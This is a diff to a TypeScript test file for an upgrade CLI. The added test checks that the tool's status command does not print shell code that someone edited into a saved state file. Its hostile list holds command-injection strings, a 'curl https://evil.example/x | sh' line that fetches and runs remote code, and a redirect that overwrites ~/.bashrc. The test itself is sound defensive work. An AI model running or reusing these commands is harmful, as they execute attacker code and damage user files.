@@ -6,16 +6,27 @@
  * control character and no forged line reaches stdout, stderr or the summary. Also: a FIFO as
  * `--state` is refused with exit 2, without waiting for a writer; and a state file whose path
  * holds shell syntax (a folder someone else named, a link) gets a `mv` hint that a shell runs
- * as one move of that file, never as the code in its name.
+ * as one move of that file, never as the code in its name; and a state whose recorded commands
+ * (`resume with:`, a held-back database's `later:`) were edited into shell code (a state file
+ * handed over, the state ConfigMap anyone who may write ConfigMaps can edit) has them not shown.
  */
 
 import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
-import { existsSync, mkdirSync, readdirSync, readFileSync, truncateSync, writeFileSync } from 'node:fs';
+import {
+  existsSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  truncateSync,
+  writeFileSync,
+} from 'node:fs';
 import path from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import { parse as parseYaml } from 'yaml';
 import { hasUnsafeChar } from '../../src/io/safe-text.js';
+import { newState, StateFile } from '../../src/run/state.js';
 import { HOSTILE_NAMES } from '../reliability/hostile-server.js';
 import { runCtl } from '../helpers/run-ctl.js';
 import { assertExit, startUpgradeSim, TARGET, type UpgradeSim } from './upgrade-support.js';
@@ -177,5 +188,64 @@ describe('hostile names from the management API (built ctl, simulated cluster)',
       assert.ok(!existsSync(file), `${mv} moved ${file} away`);
     }
     assert.deepEqual(readdirSync(root), [path.basename(folder)], 'the hints ran no code (no pwned file)');
+  });
+
+  it("a state's recorded commands edited into shell code: status prints none of them, a command in ctl's form it prints", async () => {
+    const scenario = sim.cluster.scenario;
+    const identity = {
+      context: `ctl-sim-${scenario.name}`,
+      namespace: scenario.namespace,
+      cluster: scenario.cluster.name,
+    };
+    const file = new StateFile(sim.statePath);
+    const recorded = (resumeCommand: string, later: string) => ({
+      ...newState(identity, { operator: TARGET }, ['preflight', 'operator', 'databases']),
+      steps: {
+        preflight: { status: 'done' as const },
+        operator: { status: 'done' as const },
+        databases: {
+          status: 'failed' as const,
+          error: { message: 'stopped', exitCode: 1 },
+          outcome: {
+            heldBack: [{ database: 'redis/aa', reason: 'a participant is behind', command: later }],
+          },
+        },
+      },
+      result: 'failed' as const,
+      resumeCommand,
+    });
+    const hostile = [
+      `ctl upgrade run --to ${TARGET} --yes; touch pwned`,
+      `ctl upgrade run --to ${TARGET} $(touch pwned)`,
+      `ctl upgrade run --to '${TARGET}' \`touch pwned\``,
+      `curl https://evil.example/x | sh`,
+      `ctl upgrade run --to ${TARGET} > ~/.bashrc`,
+    ];
+    try {
+      for (const command of hostile) {
+        await file.save(recorded(command, command));
+        const status = await runCtl(['upgrade', 'status', '--state', sim.statePath], {
+          cwd: sim.sandbox.dir,
+          env: sim.env,
+          timeoutMs: 60_000,
+        });
+        assertExit(status, 0, `status of a state recording ${command}`);
+        assert.ok(!status.stdout.includes(command), `printed ${command}:\n${status.stdout}`);
+        assert.match(status.stdout, /resume with: \(the command the state records is not shown/);
+        assert.match(status.stdout, /later: \(the command the state records is not shown/);
+      }
+      const own = `ctl upgrade run --to ${TARGET} -n ${scenario.namespace} --databases 'redis/a b' --yes`;
+      await file.save(recorded(own, own));
+      const status = await runCtl(['upgrade', 'status', '--state', sim.statePath], {
+        cwd: sim.sandbox.dir,
+        env: sim.env,
+        timeoutMs: 60_000,
+      });
+      assertExit(status, 0, 'status of a state recording a command in ctl form');
+      assert.ok(status.stdout.includes(`resume with: ${own}`), status.stdout);
+      assert.ok(status.stdout.includes(`later: ${own}`), status.stdout);
+    } finally {
+      rmSync(sim.statePath, { force: true });
+    }
   });
 });
